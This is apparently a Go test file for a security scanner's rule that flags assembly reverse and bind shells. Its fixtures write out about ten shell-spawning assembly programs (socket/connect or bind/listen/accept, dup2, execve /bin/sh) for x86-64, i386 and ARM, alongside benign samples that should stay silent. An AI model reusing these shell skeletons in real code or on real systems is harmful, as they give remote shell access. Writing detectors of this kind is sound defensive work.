package shell

import (
	"fmt"
	"strings"
	"testing"
)

// TestAsmShellSource: assembly reverse and bind shells written with raw system calls are
// STRATA-RS-027 in NASM and GAS (AT&T and Intel syntax), on x86-64 (syscall), i386 (int 0x80
// with socketcall or the direct socket calls) and ARM (svc with x8 or r7), the numbers given as
// decimals, hex, NASM's h suffix, equ/%define/.equ constants, SYS_ and __NR_ names, and built
// by xor, add, inc, push and pop. Programs that only write, connect without running a shell,
// or run a shell without a socket stay silent, as do comments.
func TestAsmShellSource(t *testing.T) {
	variants := map[string]string{
		"nasm64.asm": `section .data
    sh   db '/bin/sh',0
section .text
global _start
_start:
    mov rax, 41          ; socket
    mov rdi, 2
    mov rsi, 1
    xor rdx, rdx
    syscall
    mov r12, rax
    mov rax, 42          ; connect
    mov rdi, r12
    lea rsi, [addr]
    mov rdx, 16
    syscall
    xor rsi, rsi
.again:
    mov rax, 33
    mov rdi, r12
    syscall
    inc rsi
    cmp rsi, 3
    jne .again
    mov rax, 59
    lea rdi, [sh]
    xor rsi, rsi
    xor rdx, rdx
    syscall
`,
		"consts.nasm": `%define NR_SOCK 0x29
SYS_CONNECT equ 42
SYS_DUP2    equ 21h
SYS_EXEC    equ 3bh
bits 64
section .text
global _start
_start:
	push NR_SOCK
	pop rax
	push 2
	pop rdi
	push 1
	pop rsi
	cdq
	syscall
	xchg rdi, rax
	push SYS_CONNECT
	pop rax
	mov rsi, rsp
	push 16
	pop rdx
	syscall
	push 2
	pop rsi
dup:	push SYS_DUP2
	pop rax
	syscall
	dec rsi
	jns dup
	mov rbx, 0x68732f6e69622f2f
	push rbx
	mov rdi, rsp
	push SYS_EXEC
	pop rax
	syscall
`,
		"att.s": `	.text
	.globl _start
_start:
	movq $41, %rax        # socket(AF_INET, SOCK_STREAM, 0)
	movq $2, %rdi
	movq $1, %rsi
	xorq %rdx, %rdx
	syscall
	movq %rax, %r9
	movq $42, %rax        # connect
	movq %r9, %rdi
	leaq addr(%rip), %rsi
	movq $16, %rdx
	syscall
	movq $33, %rax
	movq %r9, %rdi
	xorq %rsi, %rsi
	syscall
	movq $33, %rax
	movq $1, %rsi
	syscall
	movq $0x3b, %rax
	leaq shell(%rip), %rdi
	xorq %rsi, %rsi
	xorq %rdx, %rdx
	syscall
	.data
shell:	.asciz "/bin/bash"
`,
		"names.S": `#include <sys/syscall.h>
	.globl main
main:
	mov $SYS_socket, %eax
	mov $2, %edi
	mov $1, %esi
	xor %edx, %edx
	syscall
	mov %eax, %ebx
	mov $__NR_connect, %eax
	mov %ebx, %edi
	syscall
	mov $SYS_dup2, %eax
	syscall
	mov $__NR_execve, %eax
	syscall
sh:	.string "/bin/sh"
`,
		"i386.asm": `; socketcall
section .text
global _start
_start:
	xor eax, eax
	xor ebx, ebx
	mov al, 0x66
	mov bl, 1
	push 0
	push 1
	push 2
	mov ecx, esp
	int 0x80
	mov esi, eax
	mov al, 102
	mov bl, 3
	int 80h
	xor ecx, ecx
	mov cl, 2
loop1:	mov al, 0x3f
	mov ebx, esi
	int 0x80
	dec ecx
	jns loop1
	mov al, 11
	push 0x68732f2f
	push 0x6e69622f
	mov ebx, esp
	int 0x80
`,
		"bind64.asm": `global _start
_start:
	mov eax, 41
	syscall
	mov edi, eax
	mov eax, 49   ; bind
	syscall
	mov eax, 50   ; listen
	syscall
	mov eax, 43   ; accept
	syscall
	mov edi, eax
	mov esi, 2
d:	mov eax, 33
	syscall
	dec esi
	jge d
	mov eax, 59
	syscall
sh db "/bin/sh", 0
`,
		"arm64.s": `	.global _start
_start:
	mov x0, #2
	mov x1, #1
	mov x2, #0
	mov x8, #198        // socket
	svc #0
	mov x19, x0
	mov x8, #203        // connect
	svc #0
	mov x1, #0
	mov x2, #0
	mov x8, #24         // dup3
	svc #0
	mov x8, #221        // execve
	adr x0, shell
	svc #0
shell: .asciz "/system/bin/sh"
`,
		"arm32.S": `	.text
	.global _start
_start:
	mov r0, #2
	mov r1, #1
	ldr r7, =281       @ socket
	mov r7, #281
	svc 0
	mov r6, r0
	add r7, r7, #2     @ connect
	mov r7, #283
	svc 0
	mov r7, #63        @ dup2
	svc 0
	mov r7, #11        @ execve
	swi 0
	.ascii "/bin/sh\0"
`,
		"i386-direct.s": `.section .text
.globl _start
_start:
	movl $359, %eax
	int $0x80
	movl %eax, %ebx
	movl $362, %eax
	int $0x80
	movl $63, %eax
	int $0x80
	movl $11, %eax
	int $0x80
`,
		"intel.s": `	.intel_syntax noprefix
	.globl _start
_start:
	xor rax, rax
	add al, 41
	syscall
	xor eax, eax
	mov al, 41
	inc al
	syscall
	mov eax, 33
	syscall
	mov eax, 59
	lea rdi, [rip + sh]
	syscall
sh:	.asciz "/bin/dash"
`,
	}
	n := 0
	for name, src := range variants {
		for _, shape := range []func(string) string{
			func(s string) string { return s },
			func(s string) string { return strings.ReplaceAll(s, "\n", "\r\n") },
			func(s string) string { return strings.ReplaceAll(s, "\t", "        ") },
		} {
			n++
			p := "/tmp/.x/" + name
			f, ok := kernelSourceFinding(p, []byte(shape(src)))
			if !ok || f.Rule != RuleAsm || f.Severity.String() != "high" {
				t.Errorf("%s: got %v %s %s\ncalls %v", name, ok, f.Rule, f.Title, asmSyscalls([]byte(shape(src))))
			}
			if ok && strings.HasPrefix(name, "bind") != strings.Contains(f.Title, "bind shell") {
				t.Errorf("%s: %s", name, f.Title)
			}
		}
	}
	silent := map[string]string{
		"hello.asm":    "section .data\nmsg db 'hi', 10\nsection .text\n_start:\n\tmov rax, 1\n\tmov rdi, 1\n\tlea rsi, [msg]\n\tmov rdx, 3\n\tsyscall\n\tmov rax, 60\n\txor rdi, rdi\n\tsyscall\n",
		"client.asm":   "_start:\n\tmov rax, 41\n\tsyscall\n\tmov rax, 42\n\tsyscall\n\tmov rax, 1\n\tsyscall\n\tmov rax, 60\n\tsyscall\n",
		"spawn.asm":    "_start:\n\tmov rax, 33\n\tsyscall\n\tmov rax, 59\n\tlea rdi, [sh]\n\tsyscall\nsh db '/bin/sh',0\n",
		"comments.s":   "# mov $41, %rax ; socket\n# syscall\n# mov $42, %rax\n# syscall\n# mov $33, %rax\n# syscall\n# mov $59, %rax\n# syscall\n\tret\n",
		"nasm-doc.asm": "; rax = 41 socket, 42 connect, 33 dup2, 59 execve\n; syscall\n\tret\n",
		"not-asm.c":    "mov rax, 41\nsyscall\nmov rax, 42\nsyscall\nmov rax, 33\nsyscall\nmov rax, 59\nsyscall\n",
	}
	for name, src := range silent {
		if f, ok := asmShellFinding("/usr/src/x/"+name, []byte(src)); ok {
			t.Errorf("silent %s: %s %s", name, f.Rule, f.Title)
		}
	}
	fmt.Printf("harness: asm-shell %d variants, %d silent shapes\n", n, len(silent))
}
